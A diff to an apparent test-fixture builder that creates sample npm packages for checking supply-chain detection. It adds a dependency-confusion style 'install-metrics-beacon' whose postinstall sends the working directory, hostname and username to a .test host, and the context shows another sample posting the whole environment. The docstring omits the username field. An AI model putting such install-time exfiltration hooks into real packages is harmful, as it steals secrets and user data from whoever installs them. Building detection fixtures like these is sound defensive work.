@@ -15,6 +15,9 @@ https   telemetry-env-report: its postinstall posts the whole environment
         (where the honeytoken variables are) over HTTPS, with Node's https
         and with Python's urllib, to .test names: no file read, nothing in
         the clear on the wire, which only TLS interception shows.
+beacon  install-metrics-beacon: a dependency-confusion style probe whose
+        postinstall GETs https://.../ping?d=<cwd>&h=<hostname> (no token,
+        no body) and resolves its own hostname, as much real code does.
 """
 import io
 import json
@@ -67,6 +70,18 @@ PACKAGES = {
             "req = urllib.request.Request('https://env-report-py.test/v1/env',"
             " data=json.dumps(dict(os.environ)).encode(), method='POST')\n"
             "print('python', urllib.request.urlopen(req, timeout=10).status)\n", 0o644),
+    },
+    "beacon": {
+        "package/package.json": (json.dumps({
+            "name": "install-metrics-beacon", "version": "9.9.9", "main": "index.js",
+            "scripts": {"postinstall": "node ping.js"}, "license": "MIT"}, indent=2), 0o644),
+        "package/index.js": ("module.exports = {};\n", 0o644),
+        "package/ping.js": (
+            "const os = require('os');\n"
+            "require('dns').lookup(os.hostname(), () => {});\n"
+            "const q = new URLSearchParams({d: process.cwd(), h: os.hostname(), u: os.userInfo().username});\n"
+            "require('https').get('https://metrics-beacon.test/ping?' + q, r => r.resume())\n"
+            "  .on('error', () => {});\n", 0o644),
     },
 }
 
